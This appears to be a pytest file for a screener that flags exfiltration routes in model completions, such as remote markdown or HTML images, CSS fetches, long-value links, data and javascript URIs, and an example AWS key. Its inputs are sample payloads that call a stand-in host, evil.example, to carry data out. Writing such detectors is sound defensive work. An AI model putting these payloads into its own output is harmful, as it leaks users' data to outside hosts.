import pytest

from trainer.security import screen_completion


def kinds(text, **more):
    return [(finding.kind, finding.severity) for finding in screen_completion(text, **more).findings]


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://evil.example/a.png?d=secret)",
        "![chart](//evil.example/a.png)",
        "![chart](<https://evil.example/a.png>)",
        "[chart]: https://evil.example/a.png\n\n![chart]".replace("[chart]:", "[chart]:", 1)
        and "![a](HTTPS://evil.example)",
    ],
)
def test_a_remote_image_is_an_error(text):
    assert kinds(text) == [("output.image", "error")]


@pytest.mark.parametrize(
    "text",
    [
        '<img src="https://evil.example/a.png">',
        "<IMG  alt=x SRC=https://evil.example/a.png>",
        '<div style="background:url(https://evil.example/a)">',
        "<style>@import 'https://evil.example/a.css'</style>",
        '<svg><image href="https://evil.example/a"/></svg>',
        '<link rel=stylesheet href="//evil.example/a.css">',
    ],
)
def test_raw_html_that_fetches_is_an_error_and_named_as_html(text):
    found = kinds(text)

    assert ("output.image", "error") in found
    assert any(kind == "output.html" for kind, _ in found)


def test_data_written_into_an_image_is_an_error():
    assert kinds("![x](data:image/png;base64,AAAA)") == [("output.image", "error"), ("output.scheme", "error")]


def test_a_link_that_carries_a_long_value_is_an_error_and_a_plain_one_is_not():
    plain = "[10-K](https://www.sec.gov/Archives/edgar/data/1551152/000155115225000010/abbv-20241231.htm?x=1)"

    assert kinds(plain) == []
    assert kinds(f"[more](https://evil.example/?q={'a' * 60})") == [("output.link", "error")]
    assert kinds(f"See [more].\n\n[more]: https://evil.example/{'QUJD' * 30}") == [("output.link", "error")]
    assert kinds(f"<https://evil.example/?q={'a' * 60}>") == [("output.link", "error")]


def test_an_allowed_host_and_its_subdomains_may_be_shown():
    text = "![a](https://img.example.com/x.png) ![b](https://notexample.com/x.png)"
    findings = screen_completion(text, allowed_hosts=["example.com"]).findings

    assert [finding.text for finding in findings] == ["https://notexample.com/x.png"]


def test_code_is_left_out():
    assert kinds("```html\n<img src=https://evil.example>\n```\nand `<script>`.") == []
    assert kinds("~~~\n<b>\n```\n<b>\n~~~\n<b>x") == [("output.html", "note")]


def test_scripts_are_a_warning_and_other_html_a_note():
    assert kinds("<b>x</b>") == [("output.html", "note")] * 2
    assert kinds("<script>x") == [("output.html", "warning")]
    assert kinds("[x](javascript:alert)") == [("output.scheme", "error")]


def test_a_secret_is_an_error_with_its_place():
    finding = screen_completion("fine\n  AKIA" + "IOSFODNN7EXAMPLE", shown="report.md").findings[0]

    assert (finding.kind, str(finding.where)) == ("secret.aws_key_id", "report.md:2:3")


def test_ordinary_report_prose_gives_nothing():
    text = "# Sales\n\nSales < 5 % and > 3 %, see [filing](https://www.sec.gov/x).\n\n| a | b |\n|---|---|\n"

    assert kinds(text) == []
